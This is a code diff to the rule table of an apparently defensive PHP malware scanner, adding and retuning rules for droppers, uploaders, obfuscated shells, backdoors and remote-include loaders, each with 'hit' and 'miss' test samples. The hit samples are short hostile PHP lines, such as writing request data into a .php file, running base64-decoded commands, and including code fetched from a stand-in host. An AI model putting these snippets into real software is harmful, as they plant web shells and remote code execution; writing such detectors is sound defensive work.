@@ -205,15 +205,60 @@ export const FACT_RULES: readonly Rule[] = [
     ...MALICIOUS,
     id: 'php-little-but-script',
     family: 'dropper',
-    when: [{ fact: 'script<-net' }, FEW_TOKENS, looksBad(-1)],
+    when: [{ fact: 'script<-net' }, FEW_TOKENS, looksBad(-4)],
     hit: [`copy('https://stoika.test/x.txt', 'cache.php');`],
     miss: [`copy('https://stoika.test/rates.txt', 'rates.json');`],
   },
   {
     ...MALICIOUS,
+    id: 'php-little-but-uploaded-script',
+    family: 'uploader',
+    when: [{ fact: 'script<-upload' }, FEW_TOKENS, looksBad(0)],
+    hit: [`move_uploaded_file($_FILES['f']['tmp_name'], 'stoika.php');`],
+    miss: [`move_uploaded_file($_FILES['f']['tmp_name'], 'stoika.jpg');`],
+  },
+  {
+    ...MALICIOUS,
+    id: 'php-little-but-upload',
+    family: 'uploader',
+    when: [{ fact: 'bare:path' }, { fact: 'write<-upload' }, FEW_TOKENS, looksBad(6)],
+    hit: [`@copy($_FILES['f']['tmp_name'], $_POST['to']);`],
+    miss: [`move_uploaded_file($_FILES['f']['tmp_name'], 'uploads/' . $_FILES['f']['name']);`],
+  },
+  {
+    ...MALICIOUS,
+    id: 'php-little-but-decoded-shell',
+    family: 'obfuscated',
+    when: [{ fact: 'shell<-decoded' }, FEW_TOKENS, looksBad(3)],
+    hit: [`system(base64_decode($command));`],
+    miss: [`exec('git log ' . escapeshellarg(base64_decode($branch)));`],
+  },
+  {
+    ...MALICIOUS,
+    id: 'php-code-in-code',
+    family: 'backdoor',
+    when: [{ fact: 'layer:code' }, { fact: 'code<-ambient' }, FEW_TOKENS, looksBad(-1)],
+    hit: [`$f = create_function('$a', 'assert($a);'); $f($_POST['stoika']);`],
+    miss: [`$f = create_function('$a', 'return trim($a);'); echo $f($_POST['stoika']);`],
+  },
+  {
+    ...MALICIOUS,
+    id: 'php-fetched-include',
+    family: 'loader',
+    when: [{ fact: 'include<-net' }, FEW_TOKENS, looksBad(-5)],
+    hit: [
+      `file_put_contents($t, file_get_contents('https://stoika.test/x.txt')); include $t;`,
+      `include 'https://stoika.test/x.txt';`,
+    ],
+    miss: [
+      `file_put_contents($t, file_get_contents('https://stoika.test/x.txt')); include 'a.php';`,
+    ],
+  },
+  {
+    ...MALICIOUS,
     id: 'php-little-but-written-script',
     family: 'dropper',
-    when: [{ fact: 'script<-request' }, FEW_TOKENS, looksBad(0)],
+    when: [{ fact: 'script<-request' }, FEW_TOKENS, looksBad(-5)],
     hit: [`file_put_contents('cache.php', $_POST['stoika']);`],
     miss: [`file_put_contents('notes.txt', $_POST['stoika']);`],
   },
@@ -276,6 +321,14 @@ export const FACT_RULES: readonly Rule[] = [
 export const ALERT_RULES: readonly Rule[] = [
   {
     ...SUSPICIOUS,
+    id: 'php-unchecked-file',
+    family: 'dropper',
+    when: [{ fact: 'bare:path' }, { fact: 'write<-request' }, FEW_TOKENS, looksBad(-5)],
+    hit: [`file_put_contents($_POST['name'], $_POST['text']);`],
+    miss: [`file_put_contents('notes/' . basename($_POST['name']), $_POST['text']);`],
+  },
+  {
+    ...SUSPICIOUS,
     id: 'php-unchecked-upload',
     family: 'uploader',
     when: [{ fact: 'bare:path' }, { fact: 'write<-upload' }, FEW_TOKENS, looksBad(-4)],
@@ -299,7 +352,7 @@ export const ALERT_RULES: readonly Rule[] = [
     miss: [`$data = base64_decode($_POST['stoika']);`],
   },
   {
-    ...SUSPICIOUS,
+    ...MALICIOUS,
     id: 'php-strange-include',
     family: 'injection',
     when: [
@@ -342,4 +395,4 @@ export const ALERT_RULES: readonly Rule[] = [
 
 export const STANDARD_RULES: readonly Rule[] = [...FACT_RULES, ...ALERT_RULES];
 /** Grows with every change of a rule: a verdict is kept no longer than the rules that gave it. */
-export const STANDARD_VERSION = '2026.11.23-4';
+export const STANDARD_VERSION = '2026.11.23-5';
